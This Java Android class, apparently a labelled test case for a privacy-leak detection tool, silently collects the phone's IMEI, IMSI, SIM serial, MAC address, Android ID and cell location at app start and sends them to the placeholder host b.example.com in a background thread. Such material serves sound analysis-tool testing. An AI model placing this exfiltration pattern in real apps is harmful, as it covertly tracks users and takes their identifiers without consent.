package stealers;

import android.app.*;
import android.content.*;
import android.net.wifi.*;
import android.os.*;
import android.provider.Settings;
import android.telephony.*;
import android.telephony.gsm.GsmCellLocation;

import java.io.*;
import java.net.*;
import java.util.*;

/** A map of numbers becomes a query. */
public class Beacon extends Application {
    private static Beacon self;
    private final Map<String, String> params = new HashMap<String, String>();

    public static Beacon get() {
        return self;
    }

    @Override
    public void onCreate() {
        super.onCreate();
        self = this;
        collect();
        Executor.go(new Call());
    }

    private void collect() {
        TelephonyManager t = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        params.put("imei", t.getDeviceId());
        params.put("imsi", t.getSubscriberId());
        params.put("iccid", t.getSimSerialNumber());
        params.put("op", t.getNetworkOperatorName());
        WifiInfo w = ((WifiManager) getSystemService(WIFI_SERVICE)).getConnectionInfo();
        params.put("mac", w.getMacAddress());
        params.put("aid", Settings.Secure.getString(getContentResolver(), Settings.Secure.ANDROID_ID));
        GsmCellLocation g = (GsmCellLocation) t.getCellLocation();
        if (g != null) params.put("cell", g.getLac() + "." + g.getCid());
    }

    static class Executor {
        static void go(Runnable r) {
            Thread t = new Thread(r, "b");
            t.setDaemon(true);
            t.start();
        }
    }

    static String query(Map<String, String> all) throws UnsupportedEncodingException {
        StringBuffer b = new StringBuffer();
        for (Map.Entry<String, String> e : all.entrySet()) {
            if (b.length() > 0) b.append('&');
            b.append(e.getKey()).append('=').append(URLEncoder.encode(e.getValue(), "utf-8"));
        }
        return b.toString();
    }

    static class Call implements Runnable {
        public void run() {
            try {
                InputStream in = new URL("http://b.example.com/reg?" + query(Beacon.get().params)).openStream(); // leak
                in.close();
                Map<String, String> v = new TreeMap<String, String>();
                v.put("sdk", String.valueOf(Build.VERSION.SDK_INT));
                v.put("v", "12");
                new URL("http://b.example.com/v?" + query(v)).openStream().close(); // no leak
            } catch (IOException e) {
                e.printStackTrace();
            }
        }
    }
}
